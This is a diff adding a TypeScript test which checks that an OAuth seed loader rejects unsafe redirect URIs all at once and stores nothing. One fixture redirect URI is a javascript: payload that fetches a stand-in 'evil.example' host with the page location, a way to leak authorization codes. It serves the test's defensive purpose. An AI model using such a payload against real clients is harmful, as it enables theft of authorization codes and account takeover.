@@ -203,4 +203,31 @@ describe('seed file', () => {
     await writeFile(bad, '{"client": []}')
     expect((await seedError(applySeedFile(t.db, bad))).message).toBe(`invalid seed file ${bad}:\n  (root): Unrecognized key: "client"`)
   })
+
+  it('refuses redirect URIs that would hand the code to script or to nobody, all at once, storing nothing', async () => {
+    // The rules themselves: redirect-uris.unit.test.ts.
+    const notAllowed = (scheme: string) =>
+      `scheme "${scheme}:" is not allowed: use https, http only for localhost, 127.0.0.1 or [::1], or a native app's private-use scheme named after a domain it controls, such as com.example.app:/callback (RFC 8252 §7)`
+    const before = await dump(t.db)
+    const err = await seedError(
+      applySeed(t.db, {
+        clients: [
+          { clientId: 'ok', allowedGrantTypes: ['authorization_code'], redirectUris: ['https://ok.example/cb'] },
+          {
+            clientId: 'bad', allowedGrantTypes: ['authorization_code'],
+            redirectUris: ['https://bad.example/cb', 'javascript:fetch("//evil.example/"+location)', 'localhost:3000/cb'],
+            postLogoutRedirectUris: ['data:text/html,bye'],
+          },
+          { clientId: 'nocb', allowedGrantTypes: ['authorization_code', 'refresh_token'] },
+        ],
+      }),
+    )
+    expect(err.problems).toEqual([
+      `clients[1].redirectUris[1]: client bad: ${notAllowed('javascript')}`,
+      `clients[1].redirectUris[2]: client bad: ${notAllowed('localhost')}`,
+      `clients[1].postLogoutRedirectUris[0]: client bad: ${notAllowed('data')}`,
+      'clients[2].redirectUris: client nocb: allowedGrantTypes has authorization_code, which needs at least one redirect URI',
+    ])
+    expect(await dump(t.db)).toEqual(before)
+  })
 })
